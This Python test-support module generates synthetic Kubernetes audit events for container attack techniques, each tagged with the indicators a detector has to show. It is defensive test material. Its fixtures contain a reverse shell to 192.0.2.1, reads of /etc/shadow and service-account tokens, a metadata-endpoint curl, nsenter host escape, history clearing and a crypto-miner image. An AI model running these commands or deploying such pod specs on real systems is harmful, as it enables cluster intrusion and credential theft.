"""Audit events of attacks, each with the indicators of which one has to be shown: by technique, account and level.

Enumerated from the techniques of MITRE ATT&CK for containers and the threat matrix for Kubernetes.
"""

from __future__ import annotations

from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from typing import Any, NamedTuple
from urllib.parse import quote

from tests.support.audit_events import Json

BEGIN = datetime(2026, 11, 30, 10, tzinfo=UTC)
RBAC, APPS, ADMISSION = "rbac.authorization.k8s.io", "apps", "admissionregistration.k8s.io"
WEB = "system:serviceaccount:shop:web"
AUTHORIZATION = "authorization.k8s.io"


class AttackCase(NamedTuple):
    """``events`` follow each other by a second; at least one of ``iocs`` has to be shown."""

    name: str
    iocs: frozenset[int]
    events: tuple[Json, ...]


def request(verb: str, resource: str, user: str = "alice", code: int = 200, **given: Any) -> Json:
    """An event at level Metadata, or with an object at level Request. ``group`` and ``name`` are of its target."""
    whole, group, name = resource.split("/"), given.pop("group", ""), given.pop("name", "x")
    namespace = given.pop("namespace", "shop")
    target = {"resource": whole[0], "apiGroup": group, "namespace": namespace, "name": name, "apiVersion": "v1"}
    target |= {"subresource": whole[1]} if len(whole) > 1 else {}
    path = "/".join(("/api/v1", *(("namespaces", namespace) if namespace else ()), whole[0], name, *whole[1:]))
    groups = ["system:unauthenticated"] if user == "system:anonymous" else ["system:authenticated"]
    return {
        "kind": "Event",
        "apiVersion": "audit.k8s.io/v1",
        "level": "Request" if "requestObject" in given else "Metadata",
        "stage": "ResponseComplete",
        "requestURI": path,
        "verb": verb,
        "user": {"username": user, "groups": groups},
        "sourceIPs": ["10.0.3.4"],
        "userAgent": "kubectl/v1.36.0 (linux/amd64) kubernetes/abc",
        "objectRef": {key: value for key, value in target.items() if value},
        "responseStatus": {"metadata": {}, "code": code},
        "annotations": {"authorization.k8s.io/decision": "forbid" if code == 403 else "allow"},
    } | given


def _case(name: str, iocs: set[int], *events: Json) -> AttackCase:
    dated = []
    for number, one in enumerate(events):
        when = (BEGIN + timedelta(seconds=number)).isoformat()
        times = {"requestReceivedTimestamp": when, "stageTimestamp": when}
        dated.append({**one, "auditID": f"{name}-{number}", **times})
    return AttackCase(name, frozenset(iocs), tuple(dated))


def attacks() -> Iterator[AttackCase]:
    """All of them."""
    yield from _sessions()
    yield from _secrets()
    yield from _rights()
    yield from _identities()
    yield from _workloads()
    yield from _cluster()
    yield from _removals()
    yield from _bursts()


def _sessions() -> Iterator[AttackCase]:
    for user in ("alice", WEB, "jane@example.com"):
        for subresource in ("exec", "attach", "portforward"):
            for verb in ("create", "get"):
                for code in (101, 200, 403):
                    event = request(verb, f"pods/{subresource}", user, code)
                    yield _case(f"{subresource} by {verb} of {user}: {code}", {4}, event)
    for code in (200, 403):
        yield _case(f"debug: {code}", {4}, request("patch", "pods/ephemeralcontainers", code=code))
        yield _case(f"node proxy: {code}", {4}, request("get", "nodes/proxy", code=code, namespace=""))
    for command in (
        "cat /etc/shadow",
        "cat /var/run/secrets/kubernetes.io/serviceaccount/token",
        "curl http://169.254.169.254/latest/meta-data/",
        "bash -i >& /dev/tcp/192.0.2.1/443 0>&1",
        "apt-get install nmap",
        "nsenter -t 1 -m -u sh",
        "history -c",
    ):
        uri = f"/api/v1/namespaces/shop/pods/x/exec?command=sh&command=-c&command={quote(command)}"
        yield _case(f"session: {command}", {2, 4, 6, 9}, request("create", "pods/exec", code=101, requestURI=uri))


def _secrets() -> Iterator[AttackCase]:
    for user in ("alice", WEB):
        for agent in ("kubectl/v1.36.0", "curl/8.5", "python-requests/2.31", "Go-http-client/1.1"):
            for verb, name, namespace in (("get", "x", "shop"), ("list", "", "shop"), ("list", "", "")):
                for code in (200, 403):
                    event = request(verb, "secrets", user, code, name=name, namespace=namespace, userAgent=agent)
                    yield _case(f"{verb} secrets {namespace} {user} {agent} {code}", {4, 10}, event)
    for verb in ("create", "update", "patch", "delete"):
        yield _case(f"{verb} secret", {4}, request(verb, "secrets", code=201 if verb == "create" else 200))
    for user, code in (("alice", 201), (WEB, 201), (WEB, 403)):
        yield _case(f"token {user} {code}", {3, 4, 10}, request("create", "serviceaccounts/token", user, code))


_RULES = {
    "everything": ("*", "*", "*"),
    "sessions": ("", "pods/exec", "create"),
    "secrets": ("", "secrets", "list"),
    "escalation": (RBAC, "clusterroles", "escalate"),
    "impersonation": ("", "users", "impersonate"),
    "tokens": ("", "serviceaccounts/token", "create"),
    "kubelets": ("", "nodes/proxy", "get"),
    "pods": ("", "pods", "create"),
    "webhooks": (ADMISSION, "mutatingwebhookconfigurations", "update"),
    "debugging": ("", "pods/ephemeralcontainers", "patch"),
}


def _rights() -> Iterator[AttackCase]:
    for verb in ("create", "update", "patch"):
        for resource in ("clusterrolebindings", "rolebindings"):
            for role, subject in (("cluster-admin", "eve"), ("admin", "eve"), ("view", "system:anonymous")):
                body = {
                    "roleRef": {"apiGroup": RBAC, "kind": "ClusterRole", "name": role},
                    "subjects": [{"kind": "User", "apiGroup": RBAC, "name": subject}],
                }
                event = request(verb, resource, group=RBAC, requestObject=body)
                yield _case(f"{verb} {resource} {role} {subject}", {3, 4}, event)
            yield _case(f"{verb} {resource} unseen", {3}, request(verb, resource, group=RBAC))
        for resource in ("clusterroles", "roles"):
            for name, (api_group, of, allowed) in _RULES.items():
                rules = [{"apiGroups": [api_group], "resources": [of], "verbs": [allowed]}]
                event = request(verb, resource, group=RBAC, requestObject={"rules": rules})
                yield _case(f"{verb} {resource} {name}", {3}, event)
            yield _case(f"{verb} {resource} unseen", {3}, request(verb, resource, group=RBAC))
    yield _case("role of the cluster", {3}, request("update", "clusterroles", group=RBAC, name="system:node"))
    yield _case("binding refused", {3, 10}, request("create", "clusterrolebindings", WEB, 403, group=RBAC))


def _identities() -> Iterator[AttackCase]:
    for other in ("system:admin", "bob", "system:serviceaccount:kube-system:admin"):
        for code in (200, 403):
            event = request("get", "pods", code=code, impersonatedUser={"username": other})
            yield _case(f"as {other}: {code}", {3, 4, 10}, event)
    for resource, verb in (("secrets", "list"), ("pods", "list"), ("pods", "create")):
        for code in (200, 403):
            nobody = request(verb, resource, "system:anonymous", code, sourceIPs=["203.0.113.9"], userAgent="curl/8")
            yield _case(f"nobody {verb} {resource} {code}", {4, 10}, nobody)
    outside = request("list", "pods", "system:kube-scheduler", sourceIPs=["203.0.113.9"])
    yield _case("a component from the Internet", {4}, outside)
    for resource in ("selfsubjectrulesreviews", "selfsubjectaccessreviews"):
        for user in ("alice", WEB):
            event = request("create", resource, user, 201, group=AUTHORIZATION, name="", namespace="")
            yield _case(f"{resource} {user}", {4}, event)
    yield _case("a known tool", {4}, request("get", "pods", userAgent="kube-hunter/0.6"))


_SPECS: dict[str, tuple[set[int], Json, Json]] = {
    "privileged": ({3}, {}, {"securityContext": {"privileged": True}}),
    "root": ({3}, {}, {"securityContext": {"runAsUser": 0}}),
    "host's /etc": ({3, 6}, {"volumes": [{"name": "v", "hostPath": {"path": "/etc"}}]}, {}),
    "runtime socket": ({3, 6}, {"volumes": [{"name": "v", "hostPath": {"path": "/var/run/docker.sock"}}]}, {}),
    "host PID": ({3}, {"hostPID": True}, {}),
    "host network": ({2, 3}, {"hostNetwork": True}, {}),
    "host IPC": ({3}, {"hostIPC": True}, {}),
    "SYS_ADMIN": ({3}, {}, {"securityContext": {"capabilities": {"add": ["SYS_ADMIN"]}}}),
    "reverse shell": ({2, 9}, {}, {"command": ["sh", "-c", "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1"]}),
    "miner": ({1, 9}, {}, {"image": "xmrig/xmrig:latest"}),
}


def _workloads() -> Iterator[AttackCase]:
    for name, (iocs, spec, container) in _SPECS.items():
        pod = {**spec, "containers": [{"name": "c", "image": "nginx:1.25", **container}]}
        bare = {"apiVersion": "v1", "kind": "Pod", "metadata": {"name": "x", "namespace": "shop"}, "spec": pod}
        yield _case(f"pod: {name}", iocs, request("create", "pods", code=201, requestObject=bare))
        template = {"metadata": {"labels": {"a": "b"}}, "spec": pod}
        spec_of = {"selector": {"matchLabels": {"a": "b"}}, "template": template}
        metadata = {"name": "x", "namespace": "shop"}
        body = {"apiVersion": "apps/v1", "kind": "Deployment", "metadata": metadata, "spec": spec_of}
        yield _case(f"deployment: {name}", iocs, request("create", "deployments", group=APPS, requestObject=body))
    for resource, group in (("pods", ""), ("deployments", APPS), ("daemonsets", APPS), ("serviceaccounts", "")):
        event = request("create", resource, code=201, group=group, namespace="kube-system")
        yield _case(f"{resource} in kube-system", {3, 4}, event)
    for verb in ("create", "patch"):
        yield _case(f"cronjob: {verb}", {4, 6, 9}, request(verb, "cronjobs", group="batch"))


def _cluster() -> Iterator[AttackCase]:
    for resource in ("mutatingwebhookconfigurations", "validatingwebhookconfigurations", "validatingadmissionpolicies"):
        for verb in ("create", "patch", "delete"):
            yield _case(f"{verb} {resource}", {3, 4}, request(verb, resource, group=ADMISSION, namespace=""))
    certificates = "certificates.k8s.io"
    approval = request("update", "certificatesigningrequests/approval", group=certificates, namespace="")
    yield _case("certificate approved", {3, 4}, approval)
    for name, ioc in (("coredns", 7), ("aws-auth", 3), ("kubeadm-config", 3)):
        event = request("patch", "configmaps", namespace="kube-system", name=name)
        yield _case(f"configmap {name}", {ioc}, event)
    level = {"pod-security.kubernetes.io/enforce": "privileged"}
    relabelled = request("patch", "namespaces", name="shop", requestObject={"metadata": {"labels": level}})
    yield _case("pod security loosened", {3}, relabelled)
    opened = request("patch", "services", requestObject={"spec": {"type": "NodePort"}})
    yield _case("service opened", {5}, opened)
    flows = request("update", "flowschemas", group="flowcontrol.apiserver.k8s.io", namespace="")
    yield _case("limits of requests", {5}, flows)
    yield _case("node joins", {3}, request("create", "nodes", code=201, namespace=""))


def _removals() -> Iterator[AttackCase]:
    for resource, group, iocs in (
        ("networkpolicies", "networking.k8s.io", {2}),
        ("resourcequotas", "", {1}),
        ("limitranges", "", {1}),
        ("namespaces", "", {4}),
        ("nodes", "", {4}),
        ("customresourcedefinitions", "apiextensions.k8s.io", {4}),
        ("events", "", {4}),
        ("clusterrolebindings", RBAC, {3}),
    ):
        yield _case(f"delete {resource}", iocs, request("delete", resource, group=group))
    for resource in ("secrets", "persistentvolumeclaims", "events"):
        yield _case(f"all {resource}", {4}, request("deletecollection", resource, name=""))
    yield _case("deployments", {4}, *(request("delete", "deployments", group=APPS, name=f"d{n}") for n in range(10)))


def _bursts() -> Iterator[AttackCase]:
    kinds = "pods secrets configmaps services nodes events endpoints jobs roles leases namespaces quotas a b c d"
    refused = [request("list", one, WEB, 403, name="") for one in kinds.split()]
    yield _case("refusals", {10}, *refused)
    yield _case("guesses", {10}, *(request("get", "pods", "", 401, annotations={}) for _ in range(20)))
    yield _case("misses", {10}, *(request("get", "pods", WEB, 404, name=f"p{number}") for number in range(60)))
    yield _case("turned away", {5}, *(request("list", "pods", "bob", 429, name="") for _ in range(25)))
